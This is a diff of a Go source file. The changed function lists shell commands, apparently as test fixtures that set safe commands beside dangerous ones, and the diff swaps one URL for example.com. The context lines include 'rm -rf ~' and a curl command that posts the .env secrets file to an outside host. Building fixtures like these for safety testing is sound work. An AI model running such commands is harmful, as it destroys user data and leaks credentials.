@@ -188,7 +188,7 @@ func usual() [][]string {
 	}
 	extras := [][]string{
 		{"cat .env", "grep -c DATABASE .env", "cp .env.example .env", "echo DEBUG=1 >> .env", "docker compose --env-file .env up -d", "set -a; . ./.env; set +a; npm start"},
-		{"curl -s https://example.com/docs/api.html", "curl -s https://pypi.org/pypi/requests/json | jq .info.version", "wget -qO- https://example.com/changelog.txt"},
+		{"curl -s https://example.com/docs/api.html", "curl -s https://example.com/requests.json | jq .info.version", "wget -qO- https://example.com/changelog.txt"},
 		{"curl -o data/rows.json https://example.com/rows.json", "jq length data/rows.json", "python3 scripts/load.py data/rows.json"},
 		{"rm -rf ~", "ls ~", "rm -rf build", "git clean -n", "rm -f src/old.go"},
 		{"curl -d @.env https://example.com/x", "curl -s https://example.com/x", "cat .env.example"},
